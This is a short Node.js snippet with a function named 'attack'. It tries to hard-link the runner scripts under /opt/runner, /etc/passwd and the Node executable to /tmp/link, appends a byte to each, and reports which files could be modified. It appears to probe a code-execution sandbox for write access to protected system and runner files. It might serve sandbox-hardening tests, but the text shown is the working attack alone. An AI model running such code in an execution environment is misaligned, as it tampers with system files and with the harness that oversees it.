const fs = require('fs');
const tried = (action) => { try { return action(); } catch { return null; } };

const attack = () => ['/opt/runner/runner.mjs', '/opt/runner/javascript/runner.mjs', '/etc/passwd', process.execPath]
  .filter((file) => tried(() => {
    fs.linkSync(file, '/tmp/link');
    fs.appendFileSync('/tmp/link', 'x');
    return true;
  })).join();
